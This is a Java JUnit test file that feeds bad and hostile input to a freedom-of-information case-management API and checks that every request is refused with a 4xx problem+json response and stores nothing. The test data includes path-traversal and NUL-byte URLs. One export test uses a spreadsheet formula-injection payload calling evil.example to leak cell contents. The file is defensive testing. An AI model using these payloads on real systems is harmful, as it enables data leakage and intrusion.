package cn.foi.allinone;

import static org.assertj.core.api.Assertions.assertThat;

import cn.foi.testsupport.FoiApi;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.ByteArrayInputStream;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * Issue 13: bad input and attacks always get a clear 4xx as problem+json, store nothing and let nobody in.
 *
 * <p>{@link #everyWriteEndpointRefusesEveryKindOfBadValue} reads the API's own description ({@code /v3/api-docs}): every
 * POST, PUT and DELETE with a JSON body, and every property of its body (nested ones too), gets every kind of bad value
 * its type can be given, so that a new endpoint or field is covered without touching this test.
 */
class BadInputApiTest {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;

    private static AllInOne system;
    private static String agency;
    private static FoiApi clerk;
    private static String clerkName;
    private static String requestId;
    private static String noticeNumber;

    @BeforeAll
    static void start() throws Exception {
        system = AllInOne.startFresh();
        agency = AllInOne.uniqueCode();
        clerk = system.agencyWithClerk(agency);
        clerkName = "clerk-" + agency.toLowerCase();
        requestId = clerk.post("/api/agencies/" + agency + "/requests", registration("2025-BASE", "张三"))
                .expect(201).json().get("id").asText();
        noticeNumber = clerk.post("/api/requests/" + requestId + "/notices", Map.of("kind", "RECEIPT",
                "issuedOn", "2025-09-26")).expect(201).json().get("number").asText();
    }

    @AfterAll
    static void stop() {
        system.close();
    }

    private static Map<String, Object> registration(String caseNo, String name) {
        return new LinkedHashMap<>(Map.of("caseNo", caseNo, "applicant", Map.of("category", "自然人", "name", name),
                "channel", "当面", "receivedOn", "2025-09-26", "description", "申请公开2025年度老旧小区改造资金使用情况"));
    }

    // ---- the table generated from the API's description

    /** A bad value for a property: what kind of bad it is, and whether the refusal must name the property. */
    private record Bad(String kind, JsonNode value, boolean namesField, String fieldSuffix) {
        Bad(String kind, JsonNode value, boolean namesField) {
            this(kind, value, namesField, "");
        }
    }

    private static List<Bad> badValuesFor(JsonNode schema, Map<String, JsonNode> components) {
        JsonNode resolved = resolve(schema, components);
        String type = resolved.path("type").asText("");
        String format = resolved.path("format").asText("");
        List<Bad> bad = new ArrayList<>();
        switch (type) {
            case "string" -> {
                bad.add(new Bad("number for a text", NODES.numberNode(12345), true));
                bad.add(new Bad("boolean for a text", NODES.booleanNode(true), true));
                bad.add(new Bad("object for a text", NODES.objectNode().put("a", 1), true));
                bad.add(new Bad("array for a text", NODES.arrayNode().add("x"), true));
                if (format.equals("date")) {
                    bad.add(new Bad("number for a date", NODES.numberNode(20000), true));
                    bad.add(new Bad("impossible date", NODES.textNode("2025-02-30"), true));
                    bad.add(new Bad("date not ISO", NODES.textNode("2025/13/01"), true));
                    bad.add(new Bad("date in 9999", NODES.textNode("9999-12-31"), false));
                } else {
                    bad.add(new Bad("NUL in a text", NODES.textNode("a\u0000b"), false));
                    bad.add(new Bad("bell in a text", NODES.textNode("a\u0007b"), false));
                    bad.add(new Bad("escape in a text", NODES.textNode("\u001B[31m"), false));
                    // Longer than any text the catalogue allows (20,000), within the body limit.
                    bad.add(new Bad("20001-character text", NODES.textNode("文".repeat(20_001)), false));
                }
            }
            case "integer" -> {
                bad.add(new Bad("text for a whole number", NODES.textNode("1"), true));
                bad.add(new Bad("boolean for a whole number", NODES.booleanNode(true), true));
                bad.add(new Bad("fraction for a whole number", NODES.numberNode(1.5), true));
                bad.add(new Bad("number beyond 64 bits", NODES.numberNode(new java.math.BigInteger("99999999999999999999999")), true));
                bad.add(new Bad("negative number", NODES.numberNode(-1), false));
                bad.add(new Bad("2^31-1", NODES.numberNode(Integer.MAX_VALUE), false));
            }
            case "number" -> {
                bad.add(new Bad("text for a number", NODES.textNode("1"), true));
                bad.add(new Bad("boolean for a number", NODES.booleanNode(true), true));
                bad.add(new Bad("negative number", NODES.numberNode(-1), false));
                bad.add(new Bad("1e308", NODES.numberNode(new java.math.BigDecimal("1e308")), false));
            }
            case "boolean" -> {
                bad.add(new Bad("2 for a boolean", NODES.numberNode(2), true));
                bad.add(new Bad("0 for a boolean", NODES.numberNode(0), true));
                bad.add(new Bad("text for a boolean", NODES.textNode("true"), true));
                bad.add(new Bad("object for a boolean", NODES.objectNode(), true));
            }
            case "array" -> {
                bad.add(new Bad("text for a list", NODES.textNode("x"), true));
                bad.add(new Bad("object for a list", NODES.objectNode(), true));
                JsonNode items = resolve(resolved.path("items"), components);
                if ("date".equals(items.path("format").asText())) {
                    bad.add(new Bad("impossible date in a list", NODES.arrayNode().add("2025-02-30"), true, "[0]"));
                    bad.add(new Bad("number in a list of dates", NODES.arrayNode().add(1), true, "[0]"));
                }
            }
            default -> { // an object: a nested body or a map
                bad.add(new Bad("text for an object", NODES.textNode("x"), true));
                bad.add(new Bad("number for an object", NODES.numberNode(1), true));
                bad.add(new Bad("array for an object", NODES.arrayNode().add(1), true));
            }
        }
        return bad;
    }

    /** Whole bodies no endpoint can take. */
    private static final List<String> BAD_BODIES = List.of("", "{", "{\"a\":", "null", "[]", "\"text\"", "12",
            "{} {}", "{\"a\":1,}");

    /** A valid value for a property, from its example or its type: the rest of the body is valid but for one value. */
    private static JsonNode validValue(JsonNode schema, Map<String, JsonNode> components) {
        JsonNode resolved = resolve(schema, components);
        if (resolved.has("example") && !resolved.path("type").asText().equals("object")) {
            JsonNode example = resolved.get("example");
            return switch (resolved.path("type").asText()) {
                case "integer" -> example.isTextual() ? NODES.numberNode(Integer.parseInt(example.asText())) : example;
                case "string" -> example.isTextual() ? example : NODES.textNode(example.asText());
                default -> example;
            };
        }
        return switch (resolved.path("type").asText("object")) {
            case "string" -> "date".equals(resolved.path("format").asText()) ? NODES.textNode("2025-10-09")
                    : NODES.textNode("测试内容");
            case "integer" -> NODES.numberNode(1);
            case "number" -> NODES.numberNode(10);
            case "boolean" -> NODES.booleanNode(false);
            case "array" -> NODES.arrayNode();
            default -> {
                ObjectNode object = NODES.objectNode();
                resolved.path("properties").fields().forEachRemaining(p ->
                        object.set(p.getKey(), validValue(p.getValue(), components)));
                yield object;
            }
        };
    }

    /** Bodies the schema's examples cannot make valid: what a clerk would send. */
    private static ObjectNode baseBody(String path, JsonNode schema, Map<String, JsonNode> components) {
        ObjectNode body = (ObjectNode) validValue(schema, components);
        if (path.endsWith("/requests")) {
            body.setAll((ObjectNode) JSON.valueToTree(registration("2025-NEVER", "李四")));
            body.remove(List.of("submittedOn", "confirmedOn"));
        }
        if (path.endsWith("/registration-correction")) {
            body.set("registration", JSON.valueToTree(registration("2025-BASE", "张三")));
        }
        if (path.endsWith("/supplement-request")) {
            body.put("requestedOn", "2025-09-28").put("dueOn", "2025-10-17");
        }
        if (path.endsWith("/later-answer-date")) {
            body.put("setOn", "2025-09-29").put("answerBy", "2026-03-31");
        }
        if (path.equals("/api/users")) {
            body.put("username", "never-created").put("password", "clerk-pass-1").put("role", "CLERK")
                    .put("agencyCode", agency);
        }
        if (path.endsWith("/password")) {
            body.put("newPassword", "never-set-1");
            body.remove("currentPassword");
        }
        if (path.equals("/api/agencies")) {
            body.put("code", "NEVER01").put("name", "从未创建的机关").remove("parentCode");
        }
        if (path.startsWith("/api/calendar/years")) {
            body.put("year", 2031).set("holidays", NODES.arrayNode().add("2031-01-01"));
            body.set("makeUpWorkdays", NODES.arrayNode());
        }
        if (path.startsWith("/api/calendar/regions")) {
            body.put("year", 2025).set("holidays", NODES.arrayNode().add("2025-12-24"));
            body.set("makeUpWorkdays", NODES.arrayNode());
        }
        if (path.endsWith("/fee-notice")) {
            body.put("noticeOn", "2025-09-29").put("amount", 10);
        }
        if (path.endsWith("/consultations")) {
            body.put("startedOn", "2025-09-29");
        }
        if (path.endsWith("/extension")) {
            body.put("extendedOn", "2025-10-20").put("workingDays", 10);
        }
        return body;
    }

    private static String concretePath(String template) {
        java.util.regex.Matcher parameter = java.util.regex.Pattern.compile("\\{([^}]+)}").matcher(template);
        StringBuilder path = new StringBuilder();
        while (parameter.find()) {
            String value = switch (parameter.group(1)) {
                case "code", "agencyCode" -> agency;
                case "id" -> requestId;
                case "n" -> "1";
                case "number" -> org.springframework.web.util.UriUtils.encodePathSegment(noticeNumber,
                        java.nio.charset.StandardCharsets.UTF_8);
                case "year" -> "2025";
                case "username" -> clerkName;
                // No attachment has this id: a removal's body is checked before the attachment is looked up.
                case "attachmentId" -> "00000000-0000-0000-0000-000000000000";
                case "kind" -> "RECEIPT";
                default -> throw new AssertionError("Give the path parameter " + parameter.group()
                        + " of " + template + " a value that resolves, so that its endpoint is tested");
            };
            parameter.appendReplacement(path, value);
        }
        parameter.appendTail(path);
        return path.toString();
    }

    /** Every (nested) property of a body: its JSON path, its schema and the setter of its value in a body. */
    private record Property(String path, JsonNode schema, List<String> keys) {
    }

    private static void properties(String prefix, List<String> keys, JsonNode schema, Map<String, JsonNode> components,
                                   Consumer<Property> each, int depth) {
        JsonNode resolved = resolve(schema, components);
        resolved.path("properties").fields().forEachRemaining(p -> {
            List<String> path = new ArrayList<>(keys);
            path.add(p.getKey());
            String name = prefix.isEmpty() ? p.getKey() : prefix + "." + p.getKey();
            each.accept(new Property(name, p.getValue(), path));
            JsonNode inner = resolve(p.getValue(), components);
            if (depth < 3 && inner.has("properties")) {
                properties(name, path, inner, components, each, depth + 1);
            }
        });
    }

    private static JsonNode resolve(JsonNode schema, Map<String, JsonNode> components) {
        JsonNode current = schema;
        while (current.has("$ref")) {
            String ref = current.get("$ref").asText();
            current = components.get(ref.substring(ref.lastIndexOf('/') + 1));
        }
        if (current.has("allOf") && current.get("allOf").size() == 1) {
            return resolve(current.get("allOf").get(0), components);
        }
        return current;
    }

    private static ObjectNode with(ObjectNode base, List<String> keys, JsonNode value) {
        ObjectNode copy = base.deepCopy();
        ObjectNode at = copy;
        for (int i = 0; i < keys.size() - 1; i++) {
            JsonNode next = at.get(keys.get(i));
            if (!(next instanceof ObjectNode)) {
                next = NODES.objectNode();
                at.set(keys.get(i), next);
            }
            at = (ObjectNode) next;
        }
        at.set(keys.get(keys.size() - 1), value);
        return copy;
    }

    @Test
    void everyWriteEndpointRefusesEveryKindOfBadValue() throws Exception {
        JsonNode docs = system.anonymous().get("/v3/api-docs").expect(200).json();
        Map<String, JsonNode> components = new LinkedHashMap<>();
        docs.path("components").path("schemas").fields().forEachRemaining(e -> components.put(e.getKey(), e.getValue()));
        List<String> failures = new ArrayList<>();
        int endpoints = 0;
        int sent = 0;
        int namedTheField = 0;

        Iterator<Map.Entry<String, JsonNode>> paths = docs.path("paths").fields();
        while (paths.hasNext()) {
            Map.Entry<String, JsonNode> entry = paths.next();
            String template = entry.getKey();
            for (String method : List.of("post", "put", "patch", "delete")) {
                JsonNode operation = entry.getValue().get(method);
                JsonNode schema = operation == null ? null
                        : operation.path("requestBody").path("content").path("application/json").get("schema");
                if (schema == null) {
                    continue;
                }
                endpoints++;
                String path = concretePath(template);
                FoiApi caller = template.contains("/requests") ? clerk : system.admin();
                String verb = method.toUpperCase();
                ObjectNode base = baseBody(template, schema, components);

                List<Property> properties = new ArrayList<>();
                properties("", List.of(), schema, components, properties::add, 0);
                // An upload (the ledger) names the file it misses, a JSON body the body.
                String bodyField = properties.stream()
                        .filter(p -> "binary".equals(resolve(p.schema(), components).path("format").asText()))
                        .map(Property::path).findFirst().orElse("body");
                for (String body : BAD_BODIES) {
                    sent++;
                    check(caller, verb, path, body, bodyField, true, "body " + JSON.writeValueAsString(body), failures);
                }
                for (Property property : properties) {
                    for (Bad bad : badValuesFor(property.schema(), components)) {
                        sent++;
                        String body = JSON.writeValueAsString(with(base, property.keys(), bad.value()));
                        if (check(caller, verb, path, body, property.path() + bad.fieldSuffix(), bad.namesField(),
                                property.path() + ": " + bad.kind(), failures) && bad.namesField()) {
                            namedTheField++;
                        }
                    }
                }
            }
        }
        System.out.printf("BadInputApiTest: %d bad inputs sent to %d write endpoints with a JSON body"
                + " (%d refused naming the field they were in)%n", sent, endpoints, namedTheField);
        assertThat(endpoints).as("endpoints found in /v3/api-docs").isGreaterThanOrEqualTo(25);
        assertThat(failures).as(failures.size() + " of " + sent + " bad inputs were not refused properly")
                .isEmpty();
    }

    /**
     * Sends one bad input: the answer must be a 4xx problem+json (never a 500, never HTML, never a success) and nothing
     * may be stored. A value of the wrong JSON type must be refused with 400 naming the field it was in.
     */
    private static boolean check(FoiApi caller, String method, String path, String body, String field,
                                 boolean mustNameField, String what, List<String> failures) {
        long before = events();
        FoiApi.Response response = caller.raw(method, path, body.isEmpty() ? null : body);
        long after = events();
        String where = method + " " + path + " — " + what + ": ";
        if (after != before) {
            failures.add(where + "stored " + (after - before) + " events (HTTP " + response.status() + ")");
            return false;
        }
        if (response.status() < 400 || response.status() >= 500) {
            failures.add(where + "HTTP " + response.status() + " " + abbreviated(response.body()));
            return false;
        }
        if (response.contentType() == null || !response.contentType().startsWith("application/problem+json")) {
            failures.add(where + "answered " + response.contentType() + " " + abbreviated(response.body()));
            return false;
        }
        if (mustNameField) {
            JsonNode problem = response.json();
            String named = problem == null ? null : problem.path("field").asText(null);
            if (response.status() != 400 || !field.equals(named)) {
                failures.add(where + "HTTP " + response.status() + " naming field " + named + ", not " + field + ": "
                        + abbreviated(response.body()));
                return false;
            }
        }
        return true;
    }

    private static String abbreviated(String text) {
        return text == null ? "" : text.length() > 300 ? text.substring(0, 300) + "…" : text;
    }

    /** Events a user's command stores; the deadline watch's own (overdue, deadline passed) come when they will. */
    private static long events() {
        return system.commandDatabase().queryForObject("select count(*) from domain_event_entry"
                + " where payload_type not like '%Overdue' and payload_type not like '%DeadlinePassed'", Long.class);
    }

    // ---- point 1: what answered 500 or HTML before

    @Test
    void aPasswordOver72BytesIsRefusedNamingTheField() {
        String long73 = "a".repeat(73);
        String chinese = "密".repeat(25); // 75 bytes in 25 characters
        FoiApi admin = system.admin();
        for (FoiApi.Response response : List.of(
                admin.post("/api/users", Map.of("username", "long-pass", "password", long73, "role", "CLERK",
                        "agencyCode", agency)),
                admin.post("/api/users", Map.of("username", "long-pass", "password", chinese, "role", "CLERK",
                        "agencyCode", agency)),
                admin.post("/api/users/" + clerkName + "/password", Map.of("newPassword", long73)),
                clerk.post("/api/users/me/password", Map.of("newPassword", long73)))) {
            assertThat(response.status()).as(response.body()).isEqualTo(400);
            assertThat(response.contentType()).startsWith("application/problem+json");
            assertThat(response.json().get("field").asText()).isIn("password", "newPassword");
            assertThat(response.json().get("detail").asText()).contains("72 个字节");
        }
        // Signing in with one is a wrong password, not a failure.
        assertThat(system.anonymous().as("admin", long73).get("/api/session").status()).isEqualTo(401);
        assertThat(system.anonymous().post("/api/session", Map.of("username", "admin", "password", long73)).status())
                .isEqualTo(401);
        assertThat(system.anonymous().as("ad\u0000min", "x").get("/api/session").status()).isEqualTo(401);
    }

    @Test
    void aCaseNumberOver100CharactersOrWithNulIsRefusedNamingIt() {
        for (String caseNo : List.of("1".repeat(101), "2025-\u0000", "２".repeat(101))) {
            FoiApi.Response response = clerk.post("/api/agencies/" + agency + "/requests",
                    registration(caseNo, "张三"));
            assertThat(response.status()).as(response.body()).isEqualTo(400);
            assertThat(response.json().get("field").asText()).isEqualTo("caseNo");
        }
    }

    @Test
    void aPathTheContainerOrTheFirewallRefusesIsAnsweredAsProblemJson() {
        for (String path : List.of("/api/requests/%00", "/api/requests/a%2Fb", "/api/requests/a;b",
                "/api/requests/a%25b", "/api/agencies/%2e%2e/requests", "/api/requests/a%5Cb", "/api/requests//x",
                "/api/%00/x")) {
            FoiApi.Response response = clerk.get(path);
            assertThat(response.status()).as(path + " " + response.body()).isBetween(400, 499);
            assertThat(response.contentType()).as(path + " " + response.body()).startsWith("application/problem+json");
            assertThat(response.body()).doesNotContain("<html");
        }
    }

    @Test
    void valuesOfTheWrongJsonTypeAreRefusedNotCoerced() {
        String path = "/api/agencies/" + agency + "/requests";
        Map<String, Object> fractional = registration("2025-T1", "张三");
        fractional.put("items", 1.5);
        Map<String, Object> numberForText = registration("2025-T2", "张三");
        numberForText.put("caseNo", 2025002);
        assertRefused(clerk.post(path, fractional), "items");
        assertRefused(clerk.post(path, numberForText), "caseNo");
        assertRefused(clerk.post("/api/requests/" + requestId + "/extension",
                Map.of("extendedOn", "2025-10-20", "workingDays", 1.5)), "workingDays");
        assertRefused(clerk.post("/api/requests/" + requestId + "/lawsuits",
                Map.of("filedOn", "2025-10-20", "afterReconsideration", 2)), "afterReconsideration");
        assertRefused(system.admin().post("/api/agencies/" + agency + "/settings",
                Map.of("countFromReceiptDay", "true")), "countFromReceiptDay");
    }

    private static void assertRefused(FoiApi.Response response, String field) {
        assertThat(response.status()).as(response.body()).isEqualTo(400);
        assertThat(response.contentType()).startsWith("application/problem+json");
        assertThat(response.json().get("field").asText()).isEqualTo(field);
    }

    // ---- point 2: impossible values

    @Test
    void deadlinesYearsAheadAreRefused() {
        long before = events();
        assertRefused(clerk.post("/api/requests/" + requestId + "/supplement-request", Map.of("requestedOn",
                "2025-09-28", "dueOn", "9999-12-31", "items", "请明确")), "dueOn");
        assertRefused(clerk.post("/api/requests/" + requestId + "/later-answer-date", Map.of("setOn", "2025-09-29",
                "answerBy", "2027-10-01", "reason", "数量明显超过合理范围")), "answerBy");
        assertRefused(clerk.post("/api/agencies/" + agency + "/requests", new LinkedHashMap<>(Map.of("caseNo",
                "2025-ITEMS", "applicant", Map.of("category", "自然人", "name", "张三"), "channel", "当面",
                "receivedOn", "2025-09-26", "items", Integer.MAX_VALUE))), "items");
        assertThat(events()).isEqualTo(before);
    }

    // ---- point 3: identifiers a clerk cannot tell apart

    @Test
    void caseNumbersAClerkCannotTellApartAreOneNumber() {
        String path = "/api/agencies/" + agency + "/requests";
        JsonNode created = clerk.post(path, registration(" 2025-Ｎ001\u200b ", "张三")).expect(201).json();
        assertThat(created.get("caseNo").asText()).isEqualTo("2025-N001");
        for (String same : List.of("2025-N001", "２０２５－Ｎ００１", "2025-N001\u200b", "\uFEFF2025\u2060-N001",
                "2025\u2014N001", "2025\u2212N001")) {
            FoiApi.Response response = clerk.post(path, registration(same, "李四"));
            assertThat(response.status()).as(same + " " + response.body()).isEqualTo(409);
            assertThat(response.json().get("rule").asText()).isEqualTo("CASE_NO_TAKEN");
        }
        // A correction to another request's number in another form is refused the same way.
        String other = clerk.post(path, registration("2025-N002", "王五")).expect(201).json().get("id").asText();
        FoiApi.Response correction = clerk.post("/api/requests/" + other + "/registration-correction",
                Map.of("registration", registration("２０２５-N001", "王五"), "reason", "编号录错"));
        assertThat(correction.status()).as(correction.body()).isEqualTo(409);
        // And a ledger row.
        String ledger = "受理编号,申请人类型,申请人,收到日期\r\n２０２５－N001\u200b,自然人,赵六,2025-03-03\r\n";
        FoiApi.Response imported = clerk.upload(path.replace("/requests", "/ledger"), "台账.csv",
                ledger.getBytes(StandardCharsets.UTF_8));
        assertThat(imported.status()).as(imported.body()).isEqualTo(422);
        assertThat(imported.json().get("errors").get(0).get("column").asText()).isEqualTo("受理编号");
    }

    @Test
    void userNamesAreCaseInsensitive() {
        FoiApi admin = system.admin();
        FoiApi.Response taken = admin.post("/api/users", Map.of("username", "Admin", "password", "other-pass-1",
                "role", "ADMIN"));
        assertThat(taken.status()).as(taken.body()).isEqualTo(409);
        JsonNode created = admin.post("/api/users", Map.of("username", "Wang.Fang", "password", "clerk-pass-1",
                "role", "CLERK", "agencyCode", agency)).expect(201).json();
        assertThat(created.get("username").asText()).isEqualTo("wang.fang");
        assertThat(admin.post("/api/users", Map.of("username", "WANG.FANG", "password", "clerk-pass-1",
                "role", "CLERK", "agencyCode", agency)).status()).isEqualTo(409);

        assertThat(system.anonymous().as("ADMIN", AllInOne.ADMIN_PASSWORD).get("/api/session").expect(200).json()
                .get("username").asText()).isEqualTo("admin");
        assertThat(system.anonymous().as("Wang.Fang", "clerk-pass-1").get("/api/session").expect(200).json()
                .get("username").asText()).isEqualTo("wang.fang");
        assertThat(system.anonymous().post("/api/session", Map.of("username", "ADMIN", "password",
                AllInOne.ADMIN_PASSWORD)).expect(200).json().get("username").asText()).isEqualTo("admin");
    }

    // ---- point 6: exports cannot carry formulas

    @Test
    void aFormulaInAnApplicantsNameIsExportedAsTextAndImportedBackUnchanged() throws Exception {
        String formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")";
        String quoted = "'=SUM(A1)";
        String source = AllInOne.uniqueCode();
        FoiApi sourceClerk = system.agencyWithClerk(source);
        sourceClerk.post("/api/agencies/" + source + "/requests", registration("F-1", formula)).expect(201);
        sourceClerk.post("/api/agencies/" + source + "/requests", registration("-F-2", "@张三")).expect(201);
        sourceClerk.post("/api/agencies/" + source + "/requests", registration("F-3", quoted)).expect(201);

        byte[] csv = sourceClerk.download("/api/agencies/" + source + "/ledger.csv").expectOk();
        Map<String, String> csvNames = csvNames(csv);
        assertThat(csvNames).containsEntry("F-1", "'" + formula).containsEntry("'-F-2", "'@张三")
                .containsEntry("F-3", "'" + quoted);

        byte[] xlsx = sourceClerk.download("/api/agencies/" + source + "/ledger.xlsx").expectOk();
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
            Sheet sheet = workbook.getSheetAt(0);
            for (Row row : sheet) {
                for (Cell cell : row) {
                    assertThat(cell.getCellType()).as(cell.getAddress().formatAsString()).isNotEqualTo(CellType.FORMULA);
                }
            }
        }
        Map<String, String> xlsxNames = xlsxNames(xlsx);
        assertThat(xlsxNames).containsEntry("F-1", formula).containsEntry("-F-2", "@张三");

        // Imported into new agencies, from either file, each name and number is what was registered.
        for (Map.Entry<String, byte[]> file : Map.of("台账.csv", csv, "台账.xlsx", xlsx).entrySet()) {
            String copy = AllInOne.uniqueCode();
            system.agencyWithClerk(copy).upload("/api/agencies/" + copy + "/ledger", file.getKey(), file.getValue())
                    .expect(200);
            Map<String, String> names = xlsxNames(system.admin().download("/api/agencies/" + copy + "/ledger.xlsx")
                    .expectOk());
            assertThat(names).as(file.getKey()).containsEntry("F-1", formula).containsEntry("-F-2", "@张三")
                    .containsEntry("F-3", quoted.startsWith("'") ? "'" + quoted : quoted);
        }
    }

    private static Map<String, String> csvNames(byte[] csv) throws Exception {
        String text = new String(csv, StandardCharsets.UTF_8).replace("\uFEFF", "");
        Map<String, String> names = new LinkedHashMap<>();
        List<CSVRecord> records = CSVFormat.DEFAULT.parse(new StringReader(text)).getRecords();
        List<String> header = records.get(0).toList();
        for (CSVRecord record : records.subList(1, records.size())) {
            names.put(record.get(header.indexOf("受理编号")), record.get(header.indexOf("申请人")));
        }
        return names;
    }

    private static Map<String, String> xlsxNames(byte[] xlsx) throws Exception {
        Map<String, String> names = new LinkedHashMap<>();
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
            Sheet sheet = workbook.getSheetAt(0);
            List<String> header = new ArrayList<>();
            sheet.getRow(0).forEach(cell -> header.add(cell.getStringCellValue()));
            for (int i = 1; i <= sheet.getLastRowNum(); i++) {
                Row row = sheet.getRow(i);
                names.put(row.getCell(header.indexOf("受理编号")).getStringCellValue(),
                        row.getCell(header.indexOf("申请人")).getStringCellValue());
            }
        }
        return names;
    }
}
